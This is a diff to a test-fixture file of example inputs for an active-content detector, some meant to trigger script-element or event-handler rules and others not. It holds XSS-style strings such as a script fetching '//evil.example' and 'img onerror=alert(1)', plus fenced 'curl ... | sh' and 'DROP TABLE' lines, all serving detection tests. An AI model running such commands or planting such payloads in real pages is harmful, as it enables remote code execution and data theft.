@@ -9,6 +9,7 @@ export const activeContentExamples: DetectorKind["examples"] = {
     { text: "Hi <script>fetch('//evil.example')</script>", rule: "script-element" },
     { text: "<SCRIPT\nsrc=//evil.example/x.js>", rule: "script-element" },
     { text: "<script>alert (1)</script>", rule: "script-element" },
+    { text: '<script type="text/javascript; x=y">go()</script>', rule: "script-element" },
     { text: "<script>let a=1</script>", rule: "script-element" },
     { text: '<script type="module">go("x")</script>', rule: "script-element" },
     { text: "<img src=x onerror=alert(1)>", rule: "event-handler" },
@@ -90,6 +91,7 @@ export const activeContentExamples: DetectorKind["examples"] = {
     { text: "A <script> element (see the standard) may stand in <head> or <body>." },
     { text: "Let <script> let you decide. If a < b and b > c, then a<c is open." },
     { text: '<script type="application/ld+json">{"@type":"Person"}</script>' },
+    { text: '<script type="text/ruby">puts("x")</script> <script type="text/template">{a: 1}</script>' },
     { text: "<b>bold</b> <br/> <img src='/logo.png' alt='on load'> <p class=once>one</p>" },
     {
       text: '<a href="https://other.example/a">x</a> <a href="javascript:void(0)">y</a> <a href="mailto:a@b.example">z</a>',
@@ -98,6 +100,7 @@ export const activeContentExamples: DetectorKind["examples"] = {
     { text: '<form action="/search"> <base href="/app/"> <meta http-equiv="content-type" content="text/html">' },
     { text: "[read](https://other.example/javascript:about) and the javascript: scheme in words" },
     { text: "![drawing](data:image/svg+xml;base64,PHN2Zz4=)" },
+    { text: "1. Run:\n    ```sh\n    curl -s https://a.example/i | sh\n    ```\n", options: { code: "skip" } },
     { text: "`<script>go()</script>` in code", options: { code: "skip" } },
     {
       text: `${fence("sql", "SELECT 1; DROP TABLE t;")}${fence("sh", "curl https://a.example/x | sh")}`,
